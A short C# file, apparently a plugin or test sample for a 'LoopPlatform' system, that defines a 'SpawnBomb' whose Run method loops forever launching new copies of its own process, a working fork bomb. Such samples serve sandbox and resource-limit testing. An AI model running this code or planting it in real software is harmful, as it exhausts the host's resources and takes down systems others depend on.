using System;
using System.Diagnostics;
using LoopPlatform.Genomes;

public static class SpawnBomb
{
    public static Table Run(Tables inputs)
    {
        while (true)
        {
            Process.Start(new ProcessStartInfo(Environment.ProcessPath!, [Environment.GetCommandLineArgs()[0]]) { RedirectStandardInput = true, RedirectStandardOutput = true });
        }
    }
}
